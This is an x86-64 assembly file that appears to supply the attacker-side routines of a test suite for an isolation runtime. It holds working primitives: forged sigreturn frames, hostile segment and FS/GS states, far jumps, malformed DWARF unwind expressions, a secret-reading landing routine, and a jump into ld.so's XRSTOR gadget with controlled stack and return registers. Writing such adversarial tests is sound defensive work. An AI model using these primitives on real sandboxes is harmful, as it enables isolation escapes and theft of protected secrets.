/* SPDX-License-Identifier: Apache-2.0 */
/* What attackers do that C cannot say. Prototypes are in attack.h. */
	.text
.macro fn name:req
	.p2align 4
	.globl \name
	.type \name, @function
\name:
	.cfi_startproc
	endbr64
.endm
.macro fn_end name:req
	.cfi_endproc
	.size \name, . - \name
.endm

/* 0 returns, 1 UD2, 2 getpid */
.macro act reg:req
	cmp	$1, \reg
	jne	8f
	ud2
8:	cmp	$2, \reg
	jne	9f
	mov	$39, %eax
	syscall
9:
.endm

fn attack_flags
	push	%rdi
	popfq
	nop
	nop
	pushfq
	pop	%rax
	test	%rsi, %rsi
	jnz	1f
	pushq	$2
	popfq
1:	ret
fn_end attack_flags

/* Sets rflags, acts, and gives what they are then. */
fn attack_flags_act
	push	%rdi
	popfq
	act	%rsi
	pushfq
	pop	%rax
	pushq	$2
	popfq
	ret
fn_end attack_flags_act

/* ds, es and fs := selector; then acts. gives fs */
fn attack_segments
	mov	%edi, %ds
	mov	%edi, %es
	mov	%edi, %fs
	act	%rsi
	mov	%fs, %eax
	ret
fn_end attack_segments

/* rbp and rbx keep what is needed when the call is refused */
fn attack_sigreturn
	push	%rbx
	push	%rbp
	mov	%rsp, %rbp
	lea	8(%rdi), %rsp
	mov	$15, %eax
	syscall
	mov	%rbp, %rsp
	pop	%rbp
	pop	%rbx
	ret
fn_end attack_sigreturn

/* The child calls fn(arg) on its stack, and ends by exit. */
fn attack_clone
	push	%r12
	push	%r13
	mov	%rdx, %r12
	mov	%rcx, %r13
	xor	%edx, %edx
	xor	%r10d, %r10d
	xor	%r8d, %r8d
	mov	$56, %eax
	syscall
	test	%rax, %rax
	jz	1f
	pop	%r13
	pop	%r12
	ret
1:	mov	%r13, %rdi
	xor	%ebp, %ebp
	call	*%r12
	mov	%eax, %edi
	mov	$60, %eax
	syscall
	ud2
fn_end attack_clone

/* The code returns with a far jump through the 6 bytes it was given in ebx. */
fn attack_far
	push	%rbx
	push	%rbp
	mov	%rsp, %rbp
	/* code is below 4 GiB, its page has room: far pointer back is made there by the host */
	mov	%rsi, %rbx
	sub	$16, %rsp
	mov	%edi, (%rsp)
	movl	$0x23, 4(%rsp)
	ljmp	*(%rsp)
	.globl attack_far_back
attack_far_back:
	mov	%rbp, %rsp
	pop	%rbp
	pop	%rbx
	ret
fn_end attack_far

fn attack_stack
	push	%rbx
	mov	%rsp, %rbx
	lea	1f(%rip), %rax
	mov	%rdi, %rsp
	jmp	*%rsi
1:	mov	%rbx, %rsp
	pop	%rbx
	ret
fn_end attack_stack

fn attack_dump
	mov	%rax, 0(%rdi)
	mov	%rcx, 8(%rdi)
	mov	%rdx, 16(%rdi)
	mov	%rbx, 24(%rdi)
	mov	%rsp, 32(%rdi)
	mov	%rbp, 40(%rdi)
	mov	%rsi, 48(%rdi)
	mov	%rdi, 56(%rdi)
	mov	%r8, 64(%rdi)
	mov	%r9, 72(%rdi)
	mov	%r10, 80(%rdi)
	mov	%r11, 88(%rdi)
	mov	%r12, 96(%rdi)
	mov	%r13, 104(%rdi)
	mov	%r14, 112(%rdi)
	mov	%r15, 120(%rdi)
	mov	$-1, %eax
	mov	$-1, %edx
	xsave64	(%rsi)
	xor	%eax, %eax
	ret
fn_end attack_dump

/* Callee-saved registers, vectors and x87 hold value while then(a, b) is called. */
fn attack_fill
	push	%rbx
	push	%rbp
	push	%r12
	push	%r13
	push	%r14
	push	%r15
	sub	$8, %rsp
	mov	%rsi, %rax
	movq	%rdi, %xmm0
	punpcklqdq %xmm0, %xmm0
	vinsertf128 $1, %xmm0, %ymm0, %ymm0 /* whatever has keys has AVX */
	.irp n, 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15
	vmovups	%ymm0, %ymm\n
	.endr
	.irp n, 0,1,2,3,4,5,6,7
	movq	%rdi, %mm\n
	.endr
	mov	%rdi, %rbx
	mov	%rdi, %rbp
	mov	%rdi, %r12
	mov	%rdi, %r13
	mov	%rdi, %r14
	mov	%rdi, %r15
	mov	%rdi, %r8
	mov	%rdi, %r9
	mov	%rdi, %r10
	mov	%rdi, %r11
	emms
	mov	%rdx, %rdi
	mov	%rcx, %rsi
	call	*%rax
	add	$8, %rsp
	pop	%r15
	pop	%r14
	pop	%r13
	pop	%r12
	pop	%rbp
	pop	%rbx
	ret
fn_end attack_fill

fn attack_fs
	rdfsbase %r8
	wrfsbase %rdi
	act	%rsi
	rdfsbase %rax
	cmp	$3, %rsi
	jne	1f
	wrfsbase %r8
1:	ret
fn_end attack_fs

fn attack_gs
	mov	%edi, %gs
	act	%rsi
	rdgsbase %rax
	ret
fn_end attack_gs

/* act 1: waits for the exception inside */
fn attack_x87
	fninit
	pushq	$0x340
	fldcw	(%rsp)
	pop	%rax
	fldz
	fldz
	fdivrp	%st, %st(1)
	mov	$7, %eax
	cmp	$1, %rdi
	jne	1f
	fwait
1:	ret
fn_end attack_x87

fn attack_two
	movabs	$0x0202020202020202, %rax
	ret
fn_end attack_two

fn attack_wild
	mov	%rdi, %rbp
	mov	%rsi, %rsp
	ud2
fn_end attack_wild

/* The frame's address is wherever rbx says, and so is all that is read there. */
	.p2align 4
	.globl attack_tables
	.type attack_tables, @function
attack_tables:
	.cfi_startproc
	.cfi_escape 0x0f, 3, 0x73, 0, 0x06
	.cfi_escape 0x10, 16, 3, 0x73, 0, 0x06
	endbr64
	mov	%rdi, %rbx
	ud2
	.cfi_endproc
	.size attack_tables, . - attack_tables

/* An expression that jumps to its own beginning. */
	.p2align 4
	.globl attack_tables_loop
	.type attack_tables_loop, @function
attack_tables_loop:
	.cfi_startproc
	.cfi_escape 0x0f, 5, 0x73, 0, 0x2f, 0xfd, 0xff
	endbr64
	mov	%rdi, %rbx
	ud2
	.cfi_endproc
	.size attack_tables_loop, . - attack_tables_loop

/* Where forged contexts lead. rdi the prey: takes the secret, tells so, and leaves by the way in more[0..1] (rsp, rip). */
fn attack_land
	mov	0(%rdi), %rax
	mov	(%rax), %rax
	mov	%rax, 24(%rdi)
	mov	48(%rdi), %rsp
	jmp	*56(%rdi)
fn_end attack_land
	.comm	model_loot, 8, 8
/*
 * long attack_xrstor(void *at, void *rsp, void *area): as ld.so's resolver where it restores, but with bit 9 of EAX. What
 * follows the XRSTOR there takes rsp from rbx and goes where r11 says. Gives 1 when it comes back.
 */
	.globl attack_xrstor
	.type attack_xrstor, @function
attack_xrstor:
	push	%rbx
	mov	%rbx, -24(%rsp)
	lea	-24(%rsp), %rbx
	lea	1f(%rip), %r11
	mov	%rsi, %rsp
	mov	$0x200, %eax
	xor	%edx, %edx
	jmp	*%rdi
1:	pop	%rbx
	mov	$1, %eax
	ret
	.size attack_xrstor, . - attack_xrstor

	.section .note.GNU-stack, "", @progbits
